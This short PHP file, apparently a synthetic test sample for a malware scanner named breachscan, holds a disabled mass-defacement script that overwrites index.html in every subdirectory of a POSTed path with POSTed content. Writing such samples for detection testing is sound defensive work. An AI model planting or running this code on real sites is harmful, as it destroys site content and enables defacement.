<?php
// synthetic test sample for breachscan: mass defacer writing an index page into every
// directory under a posted base directory. Disabled.
return;
$base = $_POST['base_dir'];
foreach (scandir($base) as $d) {
    if ($d != '.' && $d != '..' && is_dir("$base/$d")) file_put_contents("$base/$d/index.html", $_POST['page']);
}
